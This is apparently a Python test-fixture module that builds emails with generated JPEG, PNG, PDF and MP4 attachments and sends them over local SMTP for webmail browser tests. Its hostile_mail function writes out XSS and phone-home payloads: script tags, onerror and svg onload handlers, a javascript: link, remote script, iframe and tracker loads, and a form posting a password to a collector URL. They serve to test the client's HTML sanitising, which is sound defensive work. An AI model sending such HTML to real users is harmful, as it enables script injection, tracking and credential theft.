"""Mails (and the media inside them) that the browser tests send over SMTP."""

from __future__ import annotations

import io
import smtplib
from email.message import EmailMessage
from email.utils import make_msgid

from PIL import Image, ImageDraw

JPEG_SIZE = (1200, 800)
PNG_SIZE = (640, 480)
VIDEO_SIZE = (320, 240)
VIDEO_FRAMES = 24
VIDEO_FPS = 12


def make_jpeg() -> bytes:
    img = Image.new("RGB", JPEG_SIZE, (40, 90, 200))
    draw = ImageDraw.Draw(img)
    for i in range(0, JPEG_SIZE[0], 80):
        draw.rectangle((i, 0, i + 40, JPEG_SIZE[1]), fill=(250, 180, 40))
    draw.ellipse((400, 200, 800, 600), fill=(230, 60, 60))
    out = io.BytesIO()
    img.save(out, "JPEG", quality=85)
    return out.getvalue()


def make_png() -> bytes:
    img = Image.new("RGBA", PNG_SIZE, (255, 255, 255, 0))
    draw = ImageDraw.Draw(img)
    draw.rectangle((40, 40, 600, 440), fill=(30, 160, 90, 255))
    draw.polygon([(320, 80), (560, 400), (80, 400)], fill=(255, 255, 255, 230))
    out = io.BytesIO()
    img.save(out, "PNG")
    return out.getvalue()


def make_pdf() -> bytes:
    import pymupdf

    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 100), "Quarterly report", fontsize=28)
    page.draw_rect(pymupdf.Rect(72, 140, 520, 400), color=(0.1, 0.3, 0.8), fill=(0.85, 0.9, 1.0))
    page.insert_text((90, 180), "Totals are up.", fontsize=16)
    data = doc.tobytes()
    doc.close()
    return bytes(data)


def make_mp4() -> bytes:
    import av

    out = io.BytesIO()
    container = av.open(out, mode="w", format="mp4")
    stream = container.add_stream("mpeg4", rate=VIDEO_FPS)
    stream.width, stream.height = VIDEO_SIZE
    stream.pix_fmt = "yuv420p"
    for i in range(VIDEO_FRAMES):
        img = Image.new("RGB", VIDEO_SIZE, (20 + i * 8, 60, 160))
        ImageDraw.Draw(img).ellipse((100 + i * 3, 60, 220 + i * 3, 180), fill=(255, 220, 0))
        for packet in stream.encode(av.VideoFrame.from_image(img)):
            container.mux(packet)
    for packet in stream.encode():
        container.mux(packet)
    container.close()
    return out.getvalue()


MEDIA = {
    "photo.jpg": ("image", "jpeg", make_jpeg),
    "diagram.png": ("image", "png", make_png),
    "report.pdf": ("application", "pdf", make_pdf),
    "clip.mp4": ("video", "mp4", make_mp4),
}


def media_mail(subject: str = "Holiday photos, report and a clip") -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = "Alice Example <alice@example.com>"
    msg["To"] = "Bob <bob@example.org>, carol@example.net"
    msg["Subject"] = subject
    msg["X-Tags"] = "media, review"
    msg.set_content("Hi Bob,\n\nhere are the files you asked for.\n\nAlice\n")
    msg.add_alternative("<p>Hi Bob,</p><p>here are the <b>files</b> you asked for.</p><p>Alice</p>", subtype="html")
    for name, (maintype, subtype, make) in MEDIA.items():
        msg.add_attachment(make(), maintype=maintype, subtype=subtype, filename=name)
    return msg


def hostile_mail(collector: str, subject: str = "Totally harmless newsletter") -> EmailMessage:
    """HTML that tries to run code in the inbox (setting ``pwned`` on the parent) and phone home."""
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@evil.example>"
    msg["To"] = "victim@example.com"
    msg["Subject"] = subject
    msg.set_content("plain part")
    msg.add_alternative(f"""<html><head>
<meta http-equiv="refresh" content="0; url={collector}/refresh">
<script>window.top.pwned = "script"; parent.pwned = "script";</script>
<link rel="stylesheet" href="{collector}/style.css">
</head><body>
<h1 id="hello">Hello</h1>
<script src="{collector}/evil.js"></script>
<img id="bad" src="does-not-exist.png" onerror="parent.pwned='onerror'; top.pwned='onerror'">
<img id="tracker" src="{collector}/track.png" width="20" height="20" alt="tracker">
<svg onload="parent.pwned='svg'"><circle r="5"/></svg>
<a id="jslink" href="javascript:parent.pwned='link';top.pwned='link'">click me</a>
<form id="steal" action="{collector}/collect" method="post">
  <input name="password" value="hunter2"><button id="send" type="submit">Send</button>
</form>
<iframe src="{collector}/frame.html"></iframe>
<div style="background-image:url({collector}/bg.png)">styled</div>
</body></html>""", subtype="html")
    return msg


def inline_image_mail(subject: str = "Inline logo") -> EmailMessage:
    cid = make_msgid(domain="example.com")
    msg = EmailMessage()
    msg["From"] = "Designer <design@example.com>"
    msg["To"] = "team@example.com"
    msg["Subject"] = subject
    msg.set_content("Our new logo is attached inline.")
    msg.add_alternative(f'<p>Our new logo:</p><img id="logo" alt="logo" src="cid:{cid[1:-1]}">', subtype="html")
    html_part = msg.get_payload()[1]
    html_part.add_related(make_png(), maintype="image", subtype="png", cid=cid, filename="logo.png",
                          disposition="inline")
    return msg


def simple_mail(subject: str, sender: str = "robot@example.com", to: str = "dev@example.com",
                body: str = "Hello from the test suite.", tags: str = "") -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = to
    msg["Subject"] = subject
    if tags:
        msg["X-Tags"] = tags
    msg.set_content(body)
    return msg


def send(port: int, *messages: EmailMessage) -> None:
    with smtplib.SMTP("127.0.0.1", port, timeout=30) as smtp:
        for msg in messages:
            smtp.send_message(msg)
